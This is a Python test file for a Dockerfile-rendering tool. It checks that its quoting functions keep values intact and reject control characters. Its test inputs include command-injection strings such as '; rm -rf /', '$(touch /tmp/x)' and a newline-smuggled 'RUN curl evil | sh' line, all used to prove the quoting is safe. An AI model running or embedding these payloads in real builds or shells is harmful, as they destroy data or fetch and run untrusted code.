"""Values reach Dockerfiles quoted by the rules of where they land: `docker` (ENV/LABEL: Docker's own double
quotes, `$` escaped) and `sh` (RUN lines: one shell word). A control character is refused, never quoted."""

from __future__ import annotations

import json
import os
import subprocess
from pathlib import Path

import pytest

from imagefactory.build.docker import detect
from imagefactory.plan.render import docker_quote, shell_quote

HOSTILE = ["plain", 'a"b', "$HOME", "${BNB_VERSION}", "back\\slash", "é ünï 日本", "it's <&>", "trail\\", "  sp  ",
           "\\$x", "a=b c=d", "$(touch /tmp/x)", "`id`", "; rm -rf /", "{}", "x" * 10_000]


@pytest.mark.parametrize("value", HOSTILE)
def test_shell_quote_is_one_word_that_sh_reads_back(value: str) -> None:
    done = subprocess.run(["sh", "-c", f"printf %s {shell_quote(value)}"], capture_output=True, text=True, check=True)
    assert done.stdout == value


@pytest.mark.parametrize("value", ["a\nRUN curl evil | sh", "a\rb", "tab\there", "nul\x00", "a\u2028b", "a\x85b"])
def test_control_characters_are_refused(value: str) -> None:
    for quote in (shell_quote, docker_quote):
        with pytest.raises(ValueError, match="control character"):
            quote(value)


def test_docker_quote_keeps_plain_values_as_before() -> None:
    assert docker_quote("hopper-cu130") == '"hopper-cu130"'  # what `tojson` gave: goldens unchanged
    assert docker_quote("$HOME") == '"\\$HOME"' and docker_quote("é") == '"é"'


@pytest.mark.docker
def test_docker_reads_env_and_label_values_back_unchanged(tmp_path: Path) -> None:
    """The real check: Docker builds a FROM scratch image with every hostile value as LABEL and ENV."""
    client = detect()  # the client and build mode `imagefactory build` uses (BuildKit)
    values = HOSTILE[:-1]
    lines = ["FROM scratch", "ENV HOME=/h BNB_VERSION=9"]
    for i, value in enumerate(values):
        lines += [f"LABEL l{i}={docker_quote(value)}", f"ENV E{i}={docker_quote(value)}"]
    (tmp_path / "Dockerfile").write_text("\n".join(lines) + "\n", encoding="utf-8")
    iidfile = tmp_path / "iid"
    built = subprocess.run([*client.build_argv(), "--iidfile", str(iidfile), str(tmp_path)], capture_output=True,
                           text=True, env={**os.environ, **client.build_env}, timeout=300, check=False)
    assert built.returncode == 0, built.stderr
    image = iidfile.read_text().strip()
    try:
        config = json.loads(subprocess.run(client.argv("image", "inspect", image, "--format", "{{json .Config}}"),
                                           capture_output=True, text=True, check=True).stdout)
    finally:
        subprocess.run(client.argv("rmi", "-f", image), capture_output=True, check=False)
    env_vars = dict(item.split("=", 1) for item in config["Env"])
    for i, value in enumerate(values):
        assert config["Labels"][f"l{i}"] == value
        assert env_vars[f"E{i}"] == value
